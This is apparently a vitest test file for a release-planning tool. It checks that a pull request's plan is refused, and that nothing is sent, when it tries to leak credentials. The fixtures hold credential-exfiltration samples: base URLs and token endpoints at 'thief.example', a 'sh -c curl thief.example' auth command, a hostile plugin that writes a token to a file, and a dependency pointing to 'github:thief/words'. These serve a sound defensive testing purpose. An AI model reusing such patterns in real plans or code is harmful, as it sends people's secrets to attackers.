import { execFile } from 'node:child_process';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import path from 'node:path';
import { promisify } from 'node:util';
import { seed } from 'pilotfish-sandbox/all';
import { afterAll, describe, expect, it, type TestContext } from 'vitest';
import { Failure, Failures } from '../../src/core/errors.ts';
import { runExports } from '../../src/engine/exports/run-exports.ts';
import { pilotfish } from '../cli/program.ts';
import { lines, openShop, planOf, type Shop } from '../lifecycle/shop.ts';
import { cleanGitEnv } from '../support/git-remote.ts';

const run = promisify(execFile);
const env = {
  FIRST_TOKEN: 'first-token-0123456789',
  SECOND_TOKEN: 'second-token-0123456789',
  VAULT_ADDR: 'https://vault.example',
  VAULT_TOKEN: 'vault-token-0123456789',
};

const opened: Shop[] = [];
afterAll(async () => {
  for (const shop of opened) await shop.close();
});

/** A checkout whose first commit has these files, and the id of that commit. */
async function checkoutWith(files: Readonly<Record<string, string>>) {
  const at = await openShop(planOf(lines.dns));
  opened.push(at);
  await rm(path.join(at.folder, 'release.plan.yaml'));
  const git = async (...args: readonly string[]): Promise<string> =>
    (await run('git', ['-C', at.folder, ...args], { env: cleanGitEnv(at.folder) })).stdout.trim();
  const put = async (more: Readonly<Record<string, string>>): Promise<void> => {
    for (const [name, text] of Object.entries(more)) {
      await mkdir(path.dirname(path.join(at.folder, name)), { recursive: true });
      await writeFile(path.join(at.folder, name), text);
    }
  };
  await git('init', '--quiet', '--initial-branch=main');
  await put(files);
  await git('add', '--all', '--force');
  await git('commit', '--quiet', '--allow-empty', '-m', 'Base');
  return { ...at, git, put, base: await git('rev-parse', 'HEAD') };
}

/** Checkouts by the plan of their base. */
const checkouts = new Map<string | null, ReturnType<typeof checkoutWith>>();

/** The plan of a pull request, against the plan of its base. */
async function judged(base: string | null, head: string) {
  const made = checkouts.get(base) ?? checkoutWith(base === null ? {} : { 'release.plan.yaml': base });
  checkouts.set(base, made);
  const at = await made;
  const met = at.strangers.length;
  await at.put({ 'release.plan.yaml': head });
  const seen = at.watch();
  const failures = await at.plan({ planFrom: at.base, env }).then(
    () => [],
    (thrown: { readonly failures?: readonly { code: string; detail: string }[]; readonly code: string; readonly detail: string }) =>
      thrown.failures ?? [thrown],
  );
  return { failures: failures.map(({ code, detail }) => `${code} ${detail}`), sent: [...seen.all(), ...at.strangers.slice(met)] };
}

type Json = null | boolean | number | string | readonly Json[] | { readonly [name: string]: Json };
const text = (plan: Json): string => JSON.stringify(plan);
const things = { base_url: 'https://things.example/v1', auth: { bearer_env: 'FIRST_TOKEN' } };
const warm = {
  id: 'warm',
  adapter: 'http',
  op: 'action',
  api: 'things',
  trigger: { a: '1' },
  request: { path: '/warm', headers: { 'x-a': { secret: 'env://SECOND_TOKEN' } } },
};
const planWith = (block: Json, line: Json = warm, more: readonly Json[] = []): string =>
  text({ version: 1, providers: { http: { things: block } }, changes: [line, ...more] });
const base = planWith(things);
const inLine = (change: Json): string => planWith(things, { ...warm, ...(change as object) } as Json);

describe('the variables of a command under `--plan-from`', () => {
  const dns = planOf(lines.dns);
  const withExports = (exports: string): string => `exports: ${exports}\n${dns}`;

  async function codesOf(reviewed: string, head: string): Promise<readonly string[]> {
    const at = await checkoutWith({ 'release.plan.yaml': reviewed });
    await at.put({ 'release.plan.yaml': head });
    const seen = at.watch();
    const request = at.request({ planFrom: at.base, env: { ...at.request().env, ...env } });
    const thrown: unknown = await runExports(request, { dispatcher: at.dispatcher, store: at.remote.open(), clock: at.clock }).catch(
      (error: unknown) => error,
    );
    const failures = thrown instanceof Failures ? thrown.failures : thrown instanceof Failure ? [thrown] : [];
    if (failures.some(({ code }) => code === 'PLAN_NOT_TRUSTED')) expect(seen.all()).toEqual([]);
    return failures.map(({ code }) => code);
  }

  it.each([
    ['a secret that the reviewed plan lacks', '{ A: one }', '{ A: { secret: env://SECOND_TOKEN } }'],
    ['a secret under another name', '{ A: { secret: env://SECOND_TOKEN } }', '{ B: { secret: env://SECOND_TOKEN } }'],
    ['a secret in a text', '{ A: one }', '{ A: { join: [x, { secret: env://SECOND_TOKEN }] } }'],
  ])('%s is refused before anything is sent', async (_, before, after) => {
    expect(await codesOf(withExports(before), withExports(after))).toEqual(['PLAN_NOT_TRUSTED']);
  });

  it('may be others where they are outputs or literals', async () => {
    const reviewed = withExports('{ A: { secret: env://SECOND_TOKEN } }');
    expect(await codesOf(reviewed, withExports('{ A: { secret: env://SECOND_TOKEN }, HOST: { from: dns.hostname }, MODE: x }'))).toEqual([
      'NOT_APPLIED',
    ]);
  });
});

describe('a plan under `--plan-from` sends nothing where it asks for', () => {
  it.each<[what: string, plan: string, says: string]>([
    ['another host', planWith({ ...things, base_url: 'https://thief.example/v1' }), 'warm sends FIRST_TOKEN to https://thief.example'],
    [
      'another address at the host',
      planWith({ ...things, base_url: 'https://things.example/v2' }),
      'warm sends FIRST_TOKEN to https://things.example',
    ],
    [
      'another variable',
      planWith({ ...things, auth: { bearer_env: 'SECOND_TOKEN' } }),
      'warm sends SECOND_TOKEN to https://things.example',
    ],
    [
      'another form of the credential',
      planWith({ ...things, auth: { header: 'x-token', value_env: 'FIRST_TOKEN' } }),
      'warm sends FIRST_TOKEN',
    ],
    [
      'a command',
      planWith({ ...things, auth: { command: ['sh', '-c', 'curl thief.example'] } }),
      "warm sends what the command `sh -c 'curl thief.example'` prints",
    ],
    [
      'a token endpoint',
      planWith({
        ...things,
        auth: {
          oauth_client_credentials: {
            client_id_env: 'VAULT_ADDR',
            client_secret_env: 'FIRST_TOKEN',
            token_url: 'https://thief.example/token',
          },
        },
      }),
      'https://thief.example',
    ],
    [
      'live credentials that were refused',
      planWith({ ...things, base_url: 'https://things.example/v1', refuse_credential: { prefixes: ['sk_live_'] } }),
      'warm sends FIRST_TOKEN',
    ],
    [
      'a credential of the line',
      inLine({ credential: { secret: 'env://SECOND_TOKEN' } }),
      'warm sends env://SECOND_TOKEN to https://things.example',
    ],
    [
      'another secret',
      inLine({ request: { path: '/warm', headers: { 'x-a': { secret: 'env://FIRST_TOKEN' } } } }),
      'warm puts the secret env://FIRST_TOKEN into request.headers.x-a',
    ],
    [
      'a secret of another source',
      inLine({ request: { path: '/warm', headers: { 'x-a': { secret: 'vault://kv/shop#key' } } } }),
      'vault://kv/shop#key',
    ],
    [
      'a secret in a place where people read it',
      inLine({ request: { path: '/comments', body: { text: { secret: 'env://SECOND_TOKEN' } } } }),
      'into request.body.text',
    ],
    [
      'an address of its own',
      planWith(things, warm, [
        { id: 'out', adapter: 'http', op: 'action', trigger: { a: '1' }, request: { url: 'https://thief.example/take' } },
      ]),
      'out sends to https://thief.example',
    ],
    [
      'a known provider at another host',
      `${planOf(lines.dns)}providers: { http: { cloudflare: { base_url: "https://thief.example" } } }\n`,
      'dns sends CLOUDFLARE_API_TOKEN to https://thief.example',
    ],
    [
      'a known provider with another variable',
      `${planOf(lines.dns)}providers: { http: { cloudflare: { auth: { bearer_env: FIRST_TOKEN } } } }\n`,
      'dns sends FIRST_TOKEN to https://api.cloudflare.com',
    ],
  ])('%s', async (_, plan, says) => {
    const { failures, sent } = await judged(base, plan);
    expect(failures.join('\n')).toContain(says);
    for (const failure of failures) expect(failure).toMatch(/^PLAN_NOT_TRUSTED .*Nothing was sent\.$/);
    expect(sent).toEqual([]);
  });

  it('what the base has for another host: the two do not mix', async () => {
    const two = (first: string, second: string): string =>
      text({
        version: 1,
        providers: {
          http: {
            a: { base_url: 'https://a.example', auth: { bearer_env: first } },
            b: { base_url: 'https://b.example', auth: { bearer_env: second } },
          },
        },
        changes: ['a', 'b'].map((api) => ({ id: api, adapter: 'http', op: 'action', api, trigger: { x: '1' }, request: { path: '/x' } })),
      });
    const { failures } = await judged(two('FIRST_TOKEN', 'SECOND_TOKEN'), two('SECOND_TOKEN', 'FIRST_TOKEN'));
    expect(failures).toHaveLength(2);
  });

  it("where the base has no plan, or one that cannot be read, nothing but a provider's own is trusted", async () => {
    expect((await judged(null, base)).failures.join()).toContain('has no plan there that can be read');
    expect((await judged('changes: [', base)).failures.join()).toContain('PLAN_NOT_TRUSTED');
    expect((await judged(null, planOf(lines.dns))).failures).toEqual([]);
  });

  it('where nobody can tell what the base is', async () => {
    const at = await checkoutWith({ 'release.plan.yaml': base });
    await expect(at.plan({ planFrom: 'f'.repeat(40), env })).rejects.toMatchObject({ code: 'PLAN_NOT_TRUSTED' });
    await expect(at.plan({ planFrom: 'main', env })).rejects.toMatchObject({ code: 'USAGE' });
  });

  it('what a replaced object says in place of the base', async () => {
    const at = await checkoutWith({ 'release.plan.yaml': base });
    const hostile = planWith({ ...things, base_url: 'https://thief.example/v1' });
    await at.put({ 'release.plan.yaml': hostile });
    await at.git('add', '--all');
    await at.git('commit', '--quiet', '-m', 'Head');
    await at.git('replace', await at.git('rev-parse', `${at.base}:release.plan.yaml`), await at.git('rev-parse', 'HEAD:release.plan.yaml'));
    await expect(at.plan({ planFrom: at.base, env })).rejects.toThrow('PLAN_NOT_TRUSTED: warm sends FIRST_TOKEN to https://thief.example');
  });
});

describe('a plan under `--plan-from` runs', () => {
  it.each<[what: string, plan: string]>([
    ['as it is in the base', base],
    [
      'with another body, path and trigger',
      inLine({ trigger: { a: '2' }, request: { path: '/cold', body: { b: 1 }, headers: { 'x-a': { secret: 'env://SECOND_TOKEN' } } } }),
    ],
    ['with another line of the same', planWith(things, warm, [{ ...warm, id: 'more', request: { ...warm.request, path: '/more' } }])],
    ['with fewer lines', planWith(things, { ...warm, id: 'renamed' })],
    [
      'with a line of a provider at its own host, with its own variable',
      base.replace(
        '"changes":[',
        `"changes":[{"id":"dns","recipe":"cloudflare.dns_cname","zone_id":"${seed.zone.id}","name":"pr-12.${seed.zone.name}","target":"cname.example"},`,
      ),
    ],
    ['where the workflow says the address of a provider', planOf(lines.callback)],
  ])('%s', async (_, plan) => {
    expect((await judged(base, plan)).failures).toEqual([]);
  });
});

describe('a plugin under `--plan-from`', () => {
  const plugin = `import { word } from './more.mjs';
    export function register(registry) { registry.addSecretSource({ scheme: word, resolve: async () => 'x' }); }`;
  const files = {
    'release.plan.yaml': 'version: 1\nchanges: []\n',
    'tools/plugin.mjs': plugin,
    'tools/more.mjs': `export const word = 'box'`,
    'package.json': '{}',
  };
  const hostile = `import { writeFileSync } from 'node:fs'; writeFileSync('taken', process.env.FIRST_TOKEN); export const word = 'box'`;
  const withPlugin = async (change: Readonly<Record<string, string>>, at?: Awaited<ReturnType<typeof checkoutWith>>) => {
    const place = at ?? (await checkoutWith(files));
    await place.put(change);
    // A process of its own: what tests import goes by the loader of their runner.
    const args = ['plan', '--scope=s', '--json', `--plan-from=${place.base}`];
    const own = { GIT_CONFIG_NOSYSTEM: '1', ...env, PILOTFISH_PLUGINS: './tools/plugin.mjs' };
    const { stdout } = await pilotfish(args, { cwd: place.folder, env: own });
    const { ok, error } = JSON.parse(stdout);
    const taken = await run('ls', [place.folder]).then(({ stdout: names }) => names.split('\n').includes('taken'));
    return { ok, code: error?.code, detail: error?.detail ?? '', taken };
  };

  it('runs as the base has it', async () => {
    expect(await withPlugin({})).toMatchObject({ ok: true, taken: false });
  });

  it.each<[what: string, change: Readonly<Record<string, string>>, names: string]>([
    ['in its own file', { 'tools/plugin.mjs': hostile }, 'tools/plugin.mjs'],
    ['in a file that it imports', { 'tools/more.mjs': hostile }, 'tools/more.mjs'],
  ])('runs no line of code that the pull request changed: %s', async (_, change, names) => {
    const { ok, code, detail, taken } = await withPlugin(change);
    expect({ ok, code, taken }).toEqual({ ok: false, code: 'PLAN_NOT_TRUSTED', taken: false });
    expect(detail).toContain(names);
  });

  it('loads a package only as the lock files of the base have it installed', async () => {
    const at = await checkoutWith({ ...files, 'tools/more.mjs': `export { word } from 'words'` });
    const installed = {
      'node_modules/words/package.json': '{ "name": "words", "type": "module", "main": "index.js" }',
      'node_modules/words/index.js': `export const word = 'box'`,
    };
    expect(await withPlugin(installed, at)).toMatchObject({ ok: true });
    expect(
      await withPlugin(
        { 'node_modules/words/index.js': hostile, 'package.json': '{ "dependencies": { "words": "github:thief/words" } }' },
        at,
      ),
    ).toMatchObject({
      code: 'PLAN_NOT_TRUSTED',
      taken: false,
    });
  });
});

it('a checkout without the base asks the code host for its files', async ({ onTestFinished }: TestContext) => {
  const at = await checkoutWith({ 'release.plan.yaml': base });
  const id = await at.git('rev-parse', 'HEAD:release.plan.yaml');
  const asked: string[] = [];
  const commit = 'c0ffee'.padEnd(40, '0');
  const server = createServer(({ url = '' }, answer) => {
    asked.push(url);
    answer.setHeader('content-type', 'application/json');
    const tree = { tree: [{ path: 'release.plan.yaml', type: 'blob', sha: id }], truncated: false };
    answer.end(JSON.stringify(url.includes('/trees/') ? tree : { content: Buffer.from(base).toString('base64'), encoding: 'base64' }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const address = server.address();
  const origin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
  const job = {
    ...env,
    GITHUB_SERVER_URL: origin,
    GITHUB_API_URL: `${origin}/api/v3`,
    GITHUB_REPOSITORY: 'acme/shop',
    GITHUB_TOKEN: 'ghs_token0123456789abcdef',
  };
  expect((await at.plan({ planFrom: commit, env: job })).ok).toBe(true);
  await at.put({ 'release.plan.yaml': planWith({ ...things, base_url: 'https://thief.example/v1' }) });
  await expect(at.plan({ planFrom: commit, env: job })).rejects.toThrow(
    'PLAN_NOT_TRUSTED: warm sends FIRST_TOKEN to https://thief.example',
  );
  expect(asked[0]).toBe(`/api/v3/repos/acme/shop/git/trees/${commit}?recursive=1`);
  expect(asked[1]).toBe(`/api/v3/repos/acme/shop/git/blobs/${id}`);
});
